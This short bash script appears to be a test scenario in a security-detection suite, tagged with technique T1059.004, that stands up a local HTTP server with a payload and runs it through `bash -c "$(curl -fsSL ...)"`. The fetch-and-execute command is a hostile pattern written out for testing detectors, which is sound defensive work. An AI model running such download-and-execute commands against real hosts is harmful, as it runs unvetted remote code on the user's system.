#!/usr/bin/env bash
# Downloaded content run by a shell without a pipe: `bash -c "$(curl -fsSL URL)"`.
. "$(dirname "$0")/../lib.sh"
scn_begin pipe-bash-c-curl T1059.004
scn_require curl
scn_http_peer
scn_payload_script "$SCN_WORK/srv/get"
SCN_OUT="$SCN_WORK/out"
bash -c "bash -c \"\$(curl -fsSL --max-time 10 $SCN_URL/get)\"" >"$SCN_OUT"
scn_shell_finish
